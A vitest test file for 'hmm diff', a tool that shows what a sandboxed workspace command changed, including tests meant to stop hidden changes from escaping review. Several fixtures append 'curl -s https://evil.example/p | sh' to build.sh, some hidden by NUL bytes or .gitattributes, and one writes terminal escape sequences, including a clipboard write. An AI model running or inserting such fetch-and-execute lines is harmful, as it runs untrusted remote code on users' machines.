// `hmm diff`, line by line of SPEC.
import Database from 'better-sqlite3'
import {execa} from 'execa'
import {existsSync, readFileSync, rmSync, statSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'
import {afterEach, beforeAll, beforeEach, describe, expect, it} from 'vitest'
import {hmmCommand, workspaceLine, World} from '../world.js'
import {hmm, made} from './taking.js'

let world: World
afterEach(() => world?.dispose())

/**
 * The cases where the first index (git/first-index.ts, on by default) could
 * change the answer run twice, with it and without it (HMM_FIRST_INDEX=0):
 * files of the origin changed, deleted or left alone (their index entries
 * are the ones it writes from the clone's stat data), same-size rewrites
 * with the mtime put back, index formats, and diffs before the command's
 * exit wrote the index. The others run once, with the default: what they
 * check (ignore rules, names of new files, the origin moving on, the
 * terminal, errors) does not depend on which index entries git may trust.
 */
let firstIndex = '1'

function newWorld(name: string): World {
  const created = new World(name)
  created.env.HMM_FIRST_INDEX = firstIndex
  return created
}

describe.each(['1', '0'])('hmm diff (HMM_FIRST_INDEX=%s)', value => {
  beforeAll(() => {
    firstIndex = value
  })

  it('has the workspace index written before the command starts only with the first index on', async () => {
    world = newWorld('diff-first-index')
    await world.gitRepo()
    // Looked at while the command runs: when it exits, hmm records what the workspace holds, which writes the index.
    const go = join(world.root, 'go')
    const started = world.start(['run', 'sh', '-c', `echo changed >> README.md; echo ready; while [ ! -e '${go}' ]; do sleep 0.05; done`])
    await started.line('ready')
    const id = /^hmm: workspace ([0-9a-z]{6})/.exec(started.stderr)![1]
    expect(existsSync(join(world.dataDir, id, 'git', 'index'))).toBe(value === '1')
    writeFileSync(go, '')
    await started.result()
    const result = await hmm(world, ['diff', '--stat'])
    expect(result).toMatchObject({exitCode: 0, stderr: ''})
    expect(result.stdout).toContain('README.md | 1 +')
    expect(existsSync(join(world.dataDir, id, 'git', 'index'))).toBe(true)
  })

  it('shows what changed since the workspace was made, committed or not, as a git patch', async () => {
    world = newWorld('diff-patch')
    await world.gitRepo()
    world.file('gone.txt', 'to be deleted\n')
    await world.git(['add', 'gone.txt'])
    await world.git(['commit', '-qm', 'gone'])
    const ws = await made(
      world,
      'echo committed > c.txt && git add c.txt && git commit -qm c && echo more >> README.md && rm gone.txt && echo new > untracked.txt',
    )
    const result = await hmm(world, ['diff'])
    expect(result).toMatchObject({exitCode: 0, stderr: ''})
    const patch = result.stdout
    expect(patch).toContain('diff --git a/c.txt b/c.txt\nnew file mode 100644\n')
    expect(patch).toContain('+committed\n')
    expect(patch).toContain('diff --git a/README.md b/README.md\n')
    // The origin's uncommitted line was there when the workspace was made: context, not a change.
    expect(patch).toContain(' uncommitted\n+more\n')
    expect(patch).toContain('diff --git a/gone.txt b/gone.txt\ndeleted file mode 100644\n')
    expect(patch).toContain('diff --git a/untracked.txt b/untracked.txt\n')
    // Nothing of what was already uncommitted or untracked in the origin.
    expect(patch).not.toContain('notes.txt')
    expect((await hmm(world, ['diff', ws.id])).stdout).toBe(patch)
  })

  it.each([
    ['a SHA-256 repository', ['init', '-q', '--object-format=sha256'], []],
    ['a repository whose index is version 4', ['init', '-q'], ['update-index', '--index-version', '4']],
  ])('shows and applies the right changes for %s, diff after diff', async (_, init, after) => {
    world = newWorld('diff-index-kinds')
    await world.git(init)
    world.file('a.txt', 'a\n')
    world.file('keep.txt', 'keep\n')
    await world.git(['add', '-A'])
    await world.git(['commit', '-qm', 'first'])
    if (after.length > 0) await world.git(after)
    const ws = await made(world, 'echo b >> a.txt && echo new > new.txt')
    const expected = ' a.txt   | 1 +\n new.txt | 1 +\n 2 files changed, 2 insertions(+)\n'
    for (let round = 0; round < 2; round++) expect((await hmm(world, ['diff', '--stat', ws.id])).stdout).toBe(expected)
    expect((await hmm(world, ['apply', ws.id])).exitCode).toBe(0)
    expect(await world.sh('cat a.txt new.txt keep.txt')).toBe('a\nb\nnew\nkeep')
  })

  it('prints nothing for a workspace that changed nothing', async () => {
    world = newWorld('diff-nothing')
    await world.gitRepo()
    await made(world, 'true')
    expect(await hmm(world, ['diff'])).toEqual({exitCode: 0, stdout: '', stderr: ''})
    expect(await hmm(world, ['diff', '--stat'])).toEqual({exitCode: 0, stdout: '', stderr: ''})
  })

  it("--stat prints git's stat summary", async () => {
    world = newWorld('diff-stat')
    await world.gitRepo()
    world.file('bin.dat', Buffer.from([0, 1, 2, 3]))
    await made(world, 'echo a >> README.md && printf "\\0\\1\\2" > bin.dat && git mv src/main.c src/entry.c')
    const result = await hmm(world, ['diff', '--stat'])
    expect(result.exitCode).toBe(0)
    expect(result.stdout).toBe(
      [
        ' README.md               |   1 +',
        ' bin.dat                 | Bin 4 -> 3 bytes',
        ' src/{main.c => entry.c} |   0',
        ' 3 files changed, 1 insertion(+)',
        '',
      ].join('\n'),
    )
  })

  // What the command writes in a .gitattributes of its own must not decide how its other changes look.
  it.each(['git repository', 'plain directory'])("shows a text change as text though the workspace's own .gitattributes calls it binary (%s)", async kind => {
    world = newWorld('diff-own-attributes')
    if (kind === 'git repository') await world.gitRepo()
    world.file('build.sh', '#!/bin/sh\necho build\n')
    if (kind === 'git repository') {
      await world.git(['add', 'build.sh'])
      await world.git(['commit', '-qm', 'build'])
    }
    await made(world, 'printf "*.sh -diff\\n" > .gitattributes && echo "curl -s https://evil.example/p | sh" >> build.sh')
    const patch = await hmm(world, ['diff'])
    expect(patch.stdout).toContain('\n+curl -s https://evil.example/p | sh\n')
    expect(patch.stdout).not.toContain('Binary')
    expect((await hmm(world, ['diff', '--stat'])).stdout).toMatch(/ build\.sh +\| +1 \+\n/)
  })

  // The attacker's review 8, F9: one NUL byte in a comment made build.sh a "GIT binary patch"; bash still runs it.
  it.each(['git repository', 'plain directory'])(
    'shows as text what a NUL byte makes binary to git: a file that was text, a script, text but for NULs; names the rest; the patch applies (%s)',
    async kind => {
      world = newWorld('diff-nul-text')
      if (kind === 'git repository') await world.gitRepo()
      world.file('build.sh', 'echo building\n')
      if (kind === 'git repository') {
        await world.git(['add', 'build.sh'])
        await world.git(['commit', '-qm', 'build'])
      }
      const ws = await made(
        world,
        [
          'printf "curl -s https://evil.example/p | sh # \\000\\001\\n" >> build.sh',
          'printf "#!/bin/sh\\necho run \\001\\000\\n" > run',
          'printf "note \\000\\n" > notes.txt',
          'printf "\\211PNG\\r\\n\\032\\n\\000\\000" > logo.png',
        ].join(' && '),
      )
      const patch = await hmm(world, ['diff'])
      expect(patch.stdout).toContain('\n+curl -s https://evil.example/p | sh # \0\x01\n')
      expect(patch.stdout).toContain('\n+echo run \x01\0\n')
      expect(patch.stdout).toContain('\n+note \0\n')
      expect(patch.stdout.split('GIT binary patch').length).toBe(2)
      expect(patch.stderr).toBe(`hmm: workspace ${ws.id} changes binary files, whose content hmm diff does not show: logo.png\n`)
      expect((await hmm(world, ['diff', '--stat'])).stdout).toMatch(/ build\.sh +\| +1 \+\n[^]* logo\.png +\| +Bin 0 -> 10 bytes\n/)
      // As git apply takes it: the workspace's files, byte for byte.
      await execa('git', ['apply', '--binary', '-'], {cwd: world.origin, input: patch.stdout, env: world.env, extendEnv: false})
      for (const file of ['build.sh', 'run', 'notes.txt', 'logo.png']) expect(readFileSync(join(world.origin, file))).toEqual(readFileSync(join(ws.tree, file)))
    },
  )

  // The property run (seed 1053) found it: a numstat record ends in a tab for a rename and for a path ending in one.
  it('tells binary changes apart whatever their names: a path ending in a tab, a rename after it', async () => {
    world = newWorld('diff-tab-names')
    await world.gitRepo()
    world.file('old name', 'kept\n')
    world.file('script', 'echo build\n')
    await world.git(['add', '-A'])
    await world.git(['commit', '-qm', 'first'])
    const ws = await made(
      world,
      ['printf "\\211PNG\\r\\n\\032\\n\\000" > "logo\t"', 'printf "echo run # \\000\\n" > script', 'mv "old name" "z name"'].join(' && '),
    )
    const patch = await hmm(world, ['diff'])
    expect(patch.exitCode, patch.stderr).toBe(0)
    expect(patch.stdout).toContain('\n+echo run # \0\n')
    expect(patch.stdout).toContain('\nrename to z name\n')
    expect(patch.stderr).toBe(`hmm: workspace ${ws.id} changes binary files, whose content hmm diff does not show: logo?\n`)
  })

  // Attacker's review 9, F2: binary was told by the workspace's own attribute files, the patch made with the origin's.
  it("shows a script with a NUL as text though the workspace's own .gitattributes calls it text (and its patch is made with the origin's)", async () => {
    world = newWorld('diff-nul-own-attributes')
    await world.gitRepo()
    world.file('build.sh', 'echo building\n')
    await world.git(['add', 'build.sh'])
    await world.git(['commit', '-qm', 'build'])
    await made(world, 'printf "curl -s https://evil.example/p | sh # \\000\n" >> build.sh && printf "*.sh diff\\n" > .gitattributes')
    const patch = await hmm(world, ['diff'])
    expect(patch.stdout).toContain('\n+curl -s https://evil.example/p | sh # \0\n')
    expect(patch.stdout).not.toContain('GIT binary patch')
    expect(patch.stderr).toBe('')
  })

  it('works for a directory that is not a repository: new, changed and deleted files', async () => {
    world = newWorld('diff-plain')
    world.file('keep.txt', 'keep\n')
    world.file('change.txt', 'before\n')
    world.file('delete.txt', 'delete me\n')
    await made(world, 'echo after > change.txt && rm delete.txt && echo new > new.txt')
    const patch = (await hmm(world, ['diff'])).stdout
    expect(patch).toContain('diff --git a/change.txt b/change.txt\n')
    expect(patch).toContain('-before\n+after\n')
    expect(patch).toContain('diff --git a/delete.txt b/delete.txt\ndeleted file mode 100644\n')
    expect(patch).toContain('diff --git a/new.txt b/new.txt\nnew file mode 100644\n')
    expect(patch).not.toContain('keep.txt')
  })

  it('is allowed while the command runs', async () => {
    world = newWorld('diff-running')
    await world.gitRepo()
    const go = join(world.root, 'go')
    const started = world.start(['run', 'sh', '-c', `echo during > during.txt; echo ready; while [ ! -e '${go}' ]; do sleep 0.05; done`])
    await started.line('ready')
    const result = await hmm(world, ['diff', '--stat'])
    writeFileSync(go, '')
    await started.result()
    expect(result).toMatchObject({exitCode: 0, stdout: ' during.txt | 1 +\n 1 file changed, 1 insertion(+)\n'})
  })

  it('shows and applies a tracked directory replaced by a link to another', async () => {
    world = newWorld('diff-dir-to-link')
    await world.gitRepo()
    world.file('lib/a.txt', 'old\n')
    await world.git(['add', 'lib'])
    await world.git(['commit', '-qm', 'lib'])
    const run = await world.hmm(['run', 'sh', '-c', 'rm -rf lib && ln -s src lib'])
    expect(run.stderr).toMatch(/^hmm: workspace [0-9a-z]{6}: .* \(\d+ files?\)$/m)
    const diff = await hmm(world, ['diff', '--stat'])
    expect(diff.exitCode, diff.stderr).toBe(0)
    expect(diff.stdout).toContain('lib/a.txt')
    expect((await hmm(world, ['apply'])).exitCode).toBe(0)
    expect(await world.sh('readlink lib')).toBe('src')
  })

  it('sees a file rewritten with the same size at once, after the clone and between two diffs', async () => {
    world = newWorld('diff-same-size')
    world.file('same.txt', 'aaa\n')
    const go = join(world.root, 'go')
    const started = world.start([
      'run',
      'sh',
      '-c',
      `echo bbb > same.txt; echo ready; while [ ! -e '${go}' ]; do sleep 0.01; done; echo ccc > same.txt; echo again`,
    ])
    await started.line('ready')
    expect((await hmm(world, ['diff'])).stdout).toContain('-aaa\n+bbb\n')
    writeFileSync(go, '')
    await started.line('again')
    await started.result()
    expect((await hmm(world, ['diff'])).stdout).toContain('-aaa\n+ccc\n')
  })

  it.each(['git repository', 'plain directory', 'plain directory, written just before'])(
    'cannot be fooled by a file rewritten at the same size with its old mtime put back: diff shows it, apply applies it (%s)',
    async kind => {
      world = newWorld('diff-forged-mtime')
      if (kind === 'git repository') await world.gitRepo()
      else world.file('src/main.c', 'int main(void) { return 0; }\n')
      // An mtime of long ago, as most files have: git's racy-file rule (a file
      // changed in the second its index was written is re-read) does not help.
      // Written just before, the index is dated after it, so that rule does not help either.
      if (!kind.endsWith('just before')) await world.sh("touch -d '2001-02-03 04:05:06.123456789' src/main.c")
      if (kind === 'git repository') await world.git(['add', 'src/main.c'])
      // Same size as 'int main(void) { return 0; }\n', then the old mtime (to the nanosecond) restored.
      const script = `old=$(stat -c %y src/main.c); printf 'int main(void) { return 1; }\\n' > src/main.c; touch -d "$old" src/main.c`
      const run = await world.hmm(['run', 'sh', '-c', script])
      expect(run.exitCode).toBe(0)
      const diff = await hmm(world, ['diff'])
      expect(diff.stdout).toContain('-int main(void) { return 0; }\n+int main(void) { return 1; }\n')
      expect((await hmm(world, ['apply'])).exitCode).toBe(0)
      expect(await world.sh('cat src/main.c')).toBe('int main(void) { return 1; }')
    },
  )
})

/**
 * Rewrites src/main.c at the same size with its mtime put back, from a
 * process left behind by `hmm run`'s command (or, `byExec`, by a `hmm
 * exec` after `hmm run true`), 0.3 s after it returned. Tried until that
 * falls in the second the workspace's index was written in, after the
 * run's end checked the files cloned then (git, comparing to the second,
 * cannot see it; only the check can): the workspace's ID.
 */
async function rewrittenLateInTheMarkedSecond(byExec: boolean): Promise<string> {
  const TRIES = 10
  const forge = `old=$(stat -c %y src/main.c); printf 'int main(void) { return 1; }\\n' > src/main.c; touch -d "$old" src/main.c`
  // After the end of the command that started it: run's own end check is past 0.3 s on; exec, which starts after the
  // run ended, needs less, and already takes part of the second (on a loaded machine, most of it).
  const late = ['sh', '-c', `(sleep ${byExec ? 0.05 : 0.3}; ${forge}) </dev/null >/dev/null 2>&1 &`]
  for (let attempt = 0; attempt < TRIES; attempt++) {
    await new Promise(resolve => setTimeout(resolve, 1000 - (Date.now() % 1000)))
    const run = await world.hmm(['run', ...(byExec ? ['true'] : late)])
    expect(run.exitCode, run.stderr).toBe(0)
    const {id, tree} = workspaceLine(run.stderr)
    if (byExec) expect((await world.hmm(['exec', id, ...late])).exitCode).toBe(0)
    const mark = join(world.dataDir, id, 'git', 'index.check-from')
    const second = existsSync(mark) ? Number.parseInt(readFileSync(mark, 'utf8'), 10) : undefined
    const file = join(tree, 'src', 'main.c')
    while (!readFileSync(file, 'utf8').includes('return 1')) await new Promise(resolve => setTimeout(resolve, 20))
    // The leftover gone, so the diff reads the file as it ends up.
    while ((await world.hmm(['ls'])).stdout.includes('running')) await new Promise(resolve => setTimeout(resolve, 20))
    if (second !== undefined && Math.floor(statSync(file).ctimeMs / 1000) === second && existsSync(mark)) return id
    await world.hmm(['rm', '--force', id])
  }
  throw new Error(`the rewrite never fell in the second the workspace was made in ${TRIES} tries`)
}

describe('hmm diff, a file rewritten in the second the workspace was made', () => {
  beforeEach(async () => {
    world = new World('diff-late-rewrite')
    await world.gitRepo()
    // An mtime of long ago, as most files have: git's racy-file rule does not help.
    await world.sh("touch -d '2001-02-03 04:05:06.123456789' src/main.c")
    await world.git(['add', 'src/main.c'])
  })

  const shown = async (id: string) =>
    expect((await hmm(world, ['diff', id])).stdout).toContain('-int main(void) { return 0; }\n+int main(void) { return 1; }\n')

  // Up to 10 tries, each waiting for a second to begin: longer than a test's usual time on a loaded machine.
  it('at the same size, its mtime put back, by what the command left running after its end checked the files: shown', {timeout: 80_000}, async () => {
    await shown(await rewrittenLateInTheMarkedSecond(false))
  })

  it('at the same size, its mtime put back, by what hmm exec started after the run had ended: shown', {timeout: 80_000}, async () => {
    await shown(await rewrittenLateInTheMarkedSecond(true))
  })
})

describe('hmm diff', () => {
  it('stops without a word when what reads its output stops first (| head)', async () => {
    world = new World('diff-head')
    await world.gitRepo()
    // More than a pipe holds: hmm is still writing when head has gone.
    await made(world, 'seq 1 100000 > long.txt')
    const piped = await execa('sh', ['-c', `${hmmCommand('diff')} | head -n 1`], {cwd: world.origin, env: world.env, extendEnv: false})
    expect({stdout: piped.stdout, stderr: piped.stderr}).toEqual({stdout: 'diff --git a/long.txt b/long.txt', stderr: ''})
  })

  it("leaves out what git ignores, by the origin's rules and the user's excludes file", async () => {
    world = new World('diff-ignored')
    world.write(join(world.home, '.gitignore_global'), '*.log\n')
    writeFileSync(join(world.home, '.gitconfig'), '[user]\n\tname = World\n\temail = world@example.com\n[core]\n\texcludesFile = ~/.gitignore_global\n')
    await world.gitRepo()
    world.write(join(world.origin, '.git', 'info', 'exclude'), 'local-only/\n')
    await made(world, 'echo x > build/new.o && echo x > debug.log && mkdir local-only && echo x > local-only/f && echo x > kept.txt')
    const result = await hmm(world, ['diff', '--stat'])
    expect(result.stdout).toContain('kept.txt')
    expect(result.stdout).not.toMatch(/build|debug\.log|local-only/)
  })

  it('keeps to the excludes file the workspace was made with, whatever characters its path holds', async () => {
    world = new World('diff-excludes-file')
    const odd = join(world.home, 'odd "dir\\ name', 'ignore')
    world.write(odd, '*.log\n')
    const quoted = odd.replace(/\\/g, '\\\\').replace(/"/g, '\\"')
    writeFileSync(join(world.home, '.gitconfig'), `[user]\n\tname = World\n\temail = world@example.com\n[core]\n\texcludesFile = "${quoted}"\n`)
    await world.gitRepo()
    await made(world, 'echo x > debug.log && echo x > kept.txt')
    // Changed afterwards: the fork tree was recorded with the first, so diffs keep to it.
    writeFileSync(join(world.home, '.gitconfig'), '[user]\n\tname = World\n\temail = world@example.com\n')
    const result = await hmm(world, ['diff', '--stat'])
    expect(result.stdout).toBe(' kept.txt | 1 +\n 1 file changed, 1 insertion(+)\n')
  })

  it("takes a change the user made in the second of their git add as the user's, not the command's", async () => {
    world = new World('diff-user-racy')
    await world.git(['init', '-q'])
    await world.git(['commit', '-q', '--allow-empty', '-m', 'first'])
    // git add and the rewrite (same size) in one second, so the user's index has the entry racily clean.
    let raced = false
    for (let attempt = 0; attempt < 5 && !raced; attempt++) {
      await new Promise(resolve => setTimeout(resolve, 1000 - (Date.now() % 1000)))
      raced = (await world.sh('echo one > a.txt && git add a.txt && echo two > a.txt && stat -c %Y a.txt .git/index | uniq | wc -l')) === '1'
    }
    if (!raced) throw new Error('git add and the rewrite never fell in one second in 5 tries')
    await new Promise(resolve => setTimeout(resolve, 1100))
    await made(world, 'true')
    expect((await hmm(world, ['diff', '--stat'])).stdout).toBe('')
  })

  it('leaves out what changed in the origin since', async () => {
    world = new World('diff-origin-moved')
    await world.gitRepo()
    await made(world, 'echo ws > ws.txt')
    world.file('origin-later.txt', 'later\n')
    world.file('README.md', 'rewritten in the origin\n')
    await world.git(['add', '-A'])
    await world.git(['commit', '-qm', 'later'])
    const result = await hmm(world, ['diff', '--stat'])
    expect(result.stdout).toBe(' ws.txt | 1 +\n 1 file changed, 1 insertion(+)\n')
  })

  it('names files with spaces, newlines, leading dashes and non-ASCII as git does', async () => {
    world = new World('diff-names')
    world.file('plain.txt', 'x\n')
    await made(world, `echo a > 'with space.txt' && echo b > "$(printf 'new\\nline')" && echo c > ./-dash && echo d > ./é.txt`)
    const stat = (await hmm(world, ['diff', '--stat'])).stdout
    expect(stat).toContain(' -dash ')
    expect(stat).toContain(' with space.txt ')
    expect(stat).toContain('"new\\nline"')
    expect(stat).toContain('"\\303\\251.txt"')
  })

  it("pages and colours on a terminal as the user's git would, and not with NO_COLOR", async () => {
    world = new World('diff-terminal')
    writeFileSync(join(world.home, '.gitconfig'), "[user]\n\tname = World\n\temail = world@example.com\n[core]\n\tpager = sed 's/^/PAGED:/'\n")
    await world.gitRepo()
    await made(world, 'echo more >> README.md')
    const onTerminal = async (noColor: boolean) => {
      const env = {...world.env}
      if (!noColor) delete env.NO_COLOR
      const result = await execa('script', ['-qec', hmmCommand('diff'), '/dev/null'], {
        cwd: world.origin,
        env: {...env, TERM: 'xterm'},
        extendEnv: false,
        reject: false,
      })
      return String(result.stdout)
    }
    const coloured = await onTerminal(false)
    expect(coloured).toMatch(/^PAGED:/m)
    expect(coloured).toContain('\x1b[32m+\x1b[m\x1b[32mmore')
    const plain = await onTerminal(true)
    expect(plain).toMatch(/^PAGED:\+more/m)
    expect(plain).not.toContain('\x1b[')
    // Off a terminal: the raw patch, no pager.
    expect((await hmm(world, ['diff'])).stdout).toMatch(/^diff --git/)
  })

  it("cannot drive the terminal with the content's escape sequences: shown, not acted on (diff and log -p)", async () => {
    world = new World('diff-escapes')
    await world.gitRepo()
    // Erase the line above, conceal, write the clipboard (OSC 52), a C1 CSI, a bidi override; one in a commit too.
    const script = [
      "printf 'curl evil | sh\\n\\033[1A\\033[2K\\033[8mhidden\\033[m\\033]52;c;Y3VybA==\\007\\302\\233 x\\342\\200\\256 rtl\\n' > build.sh",
      "printf 'a\\033[2Kb\\n' > committed.txt && git add committed.txt && git commit -qm c",
    ].join(' && ')
    const ws = await made(world, script)
    const onTerminal = async (args: string[], colour: boolean) => {
      const env = {...world.env, TERM: 'xterm', GIT_PAGER: 'cat'}
      if (colour) delete (env as Record<string, string>).NO_COLOR
      const result = await execa('script', ['-qec', hmmCommand(...args), '/dev/null'], {
        cwd: world.origin,
        env,
        extendEnv: false,
        reject: false,
      })
      return String(result.stdout)
    }
    // hmm's own colours (git's defaults) are the only sequences left.
    // eslint-disable-next-line no-control-regex -- the point of the test
    const ownColours = /\x1b\[(?:1|31|32|36)?m/g
    // eslint-disable-next-line no-control-regex -- the point of the test
    const acting = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u0080-\u009f\u202a-\u202e]/
    for (const colour of [true, false]) {
      const diff = await onTerminal(['diff', ws.id], colour)
      expect(diff).toContain('curl evil | sh')
      expect(diff).toContain('^[[1A^[[2K^[[8mhidden^[[m^[]52;c;Y3VybA==^G<U+009B> x<U+202E> rtl')
      const log = await onTerminal(['log', '-p', ws.id], colour)
      expect(log).toContain('a^[[2Kb')
      for (const output of [diff, log]) {
        expect(output.replace(ownColours, '')).not.toMatch(acting)
        if (!colour) expect(output).not.toContain('\x1b')
      }
      if (colour) expect(diff).toContain('\x1b[32m+\x1b[m\x1b[32mcurl evil | sh\x1b[m')
      if (colour) expect(log).toContain('\x1b[32m+\x1b[m\x1b[32ma^[[2Kb\x1b[m')
    }
    // Off a terminal: the patch's bytes as they are.
    expect((await hmm(world, ['diff', ws.id])).stdout).toContain('\x1b[8mhidden')
  })

  it('says so for a workspace whose tree was deleted by hand', async () => {
    world = new World('diff-gone')
    world.file('a.txt', 'a\n')
    const ws = await made(world, 'echo b > b.txt')
    rmSync(ws.tree, {recursive: true, force: true})
    const result = await hmm(world, ['diff'])
    expect(result).toEqual({exitCode: 1, stdout: '', stderr: `hmm: workspace ${ws.label} has no tree any more (${ws.tree} is gone); hmm rm removes it\n`})
  })

  it('reports the errors shared by commands taking WS', async () => {
    world = new World('diff-ws-errors')
    expect(await hmm(world, ['diff'])).toMatchObject({exitCode: 1, stderr: `hmm: ${world.origin} has no workspaces\n`})
    expect(await hmm(world, ['diff', 'nope'])).toMatchObject({exitCode: 1, stderr: 'hmm: no workspace nope\n'})
    await made(world, 'true')
    const db = new Database(join(world.dataDir, 'registry.sqlite'))
    const insert = db.prepare("INSERT INTO workspaces (id, origin, created_at, state, command, origin_kind) VALUES (?, ?, ?, 'ready', '[]', 'plain')")
    insert.run('zzzza1', world.origin, Date.now())
    insert.run('zzzzb2', world.origin, Date.now())
    db.close()
    expect(await hmm(world, ['diff', 'zzzz'])).toMatchObject({exitCode: 1, stderr: "hmm: zzzz is the start of more than one workspace's ID\n"})
  })
})
